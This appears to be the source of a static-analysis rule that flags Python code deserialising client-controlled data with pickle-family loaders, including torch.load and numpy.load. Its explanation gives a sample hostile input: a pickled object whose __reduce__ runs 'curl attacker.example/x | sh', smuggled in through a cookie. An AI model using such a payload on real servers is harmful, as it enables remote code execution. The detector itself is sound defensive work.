"""PY-DESER-001 insecure-deserialization: pickle-family loads of data a client controls.

**What it finds.** `pickle`/`cPickle`/`_pickle` `loads`/`load`/`Unpickler`,
`marshal.loads/load`, `shelve.open`, `jsonpickle.decode`, `dill.loads/load`,
`pandas.read_pickle`, `joblib.load`, `numpy.load(..., allow_pickle=True)` and
`torch.load` without `weights_only=True`, when the data (or the file name)
comes from a request: the body, a form field, an uploaded file, a cookie, a
header, a route parameter, or bytes read from a socket (`conn.recv()`). Taint
passes through decoding steps such as `base64.b64decode()`.

**Not reported.** Loads of data the application wrote itself (files it
created, cache entries), command-line tools reading paths from `sys.argv`
(the user already controls that process), `json`/`yaml.safe_load`, and
`torch.load(..., weights_only=True)`. No automatic fix: there is no drop-in
safe unpickler, the data format itself has to change.
"""

from __future__ import annotations

from typing import Iterator

from tree_sitter import Node

from ....common.names import last_parts
from ....context import AnalysisContext
from ....model import Confidence, Finding, Severity
from ....python.arguments import argument_value
from ....python.dataflow import reaching_definitions
from ....python.inputs import remote_taint
from ....python.names import calls_named, method_name
from ....python.strings import unwrap_parens
from ...base import Explanation, Rule, register

DESERIALIZERS = frozenset(
    {
        f"{module}.{function}"
        for module in ("pickle", "cPickle", "_pickle", "dill", "cloudpickle")
        for function in ("loads", "load", "Unpickler")
    }
    | {"marshal.loads", "marshal.load", "shelve.open", "shelve.DbfilenameShelf", "jsonpickle.decode", "jsonpickle.loads",
       "jsonpickle.unpickler.decode", "pandas.read_pickle", "joblib.load", "sklearn.externals.joblib.load"}
)
NETWORK_READS = frozenset({"recv", "recvfrom", "recv_bytes", "recvmsg"})
PAYLOAD_KEYWORDS = ("data", "file", "string", "s", "filename", "f", "filepath_or_buffer", "path")


def _payload(ctx: AnalysisContext, call: Node) -> Node | None:
    for keyword in PAYLOAD_KEYWORDS:
        value = argument_value(ctx, call, keyword)
        if value is not None:
            return value
    return argument_value(ctx, call, "", 0)


def _network_read(ctx: AnalysisContext, node: Node | None, depth: int = 0) -> str | None:
    """`sock.recv(...)` inline or through a local variable (bytes from a peer)."""
    node = unwrap_parens(node)
    if node is None or depth > 4:
        return None
    if node.type == "call":
        method = method_name(ctx, node)
        if method in NETWORK_READS:
            return f"{method}()"
        args = node.child_by_field_name("arguments")
        for argument in args.named_children if args is not None else ():
            found = _network_read(ctx, argument, depth + 1)
            if found:
                return found
    if node.type == "identifier":
        for definition in reaching_definitions(ctx, node):
            found = _network_read(ctx, definition.value, depth + 1)
            if found:
                return found
    return None


_LAST_NAMES = last_parts(DESERIALIZERS, ("numpy.load", "torch.load"))
"""The last part of the name of every call the rule looks at."""


@register
class InsecureDeserialization(Rule):
    id = "PY-DESER-001"
    name = "insecure-deserialization"
    triggers = tuple(sorted(last_parts(DESERIALIZERS) | {"load"}))  # load: numpy.load, torch.load
    cwe = 502
    owasp = "A08:2021"
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    languages = ("python",)
    summary = "pickle/marshal/shelve/jsonpickle/dill data from a client deserialised (remote code execution)"
    explanation = Explanation(
        what="Bytes a client controls are turned back into Python objects by a pickle-family deserialiser.",
        why=(
            "It round-trips the application's own objects perfectly, which is why it looks like a convenient "
            "wire or cookie format. But a pickle is a program for a small stack machine that may import and call "
            "any function: loading one runs the sender's code with the server's privileges."
        ),
        hostile_input="`pickle.dumps` of an object whose `__reduce__` returns `(os.system, (\"curl attacker.example/x | sh\",))`, base64-encoded into the cookie.",
        fix=(
            "Use a data-only format (`json.loads`, `yaml.safe_load`, protobuf/msgpack) and validate the fields. If "
            "objects must round-trip through a client, sign them (`itsdangerous`, `hmac`) and verify before loading."
        ),
    )

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        for call, name in calls_named(ctx, _LAST_NAMES):
            name = name or ""
            if name in DESERIALIZERS:
                pass
            elif name == "numpy.load" and self._true(ctx, argument_value(ctx, call, "allow_pickle")):
                pass
            elif name == "torch.load" and not self._true(ctx, argument_value(ctx, call, "weights_only")):
                pass
            else:
                continue
            data = _payload(ctx, call)
            taint = remote_taint(ctx, data)
            origin = f"{taint.source} (line {taint.line})" if taint else _network_read(ctx, data)
            if origin is None:
                continue
            function = name.split(".")[-1]
            message = f"Insecure deserialisation: {name.split('.')[0]}.{function}() of data from {origin} runs attacker-chosen code; use JSON or verify a signature first"
            yield self.finding(ctx, call, message)

    @staticmethod
    def _true(ctx: AnalysisContext, node: Node | None) -> bool:
        node = unwrap_parens(node)
        return node is not None and node.type == "true"
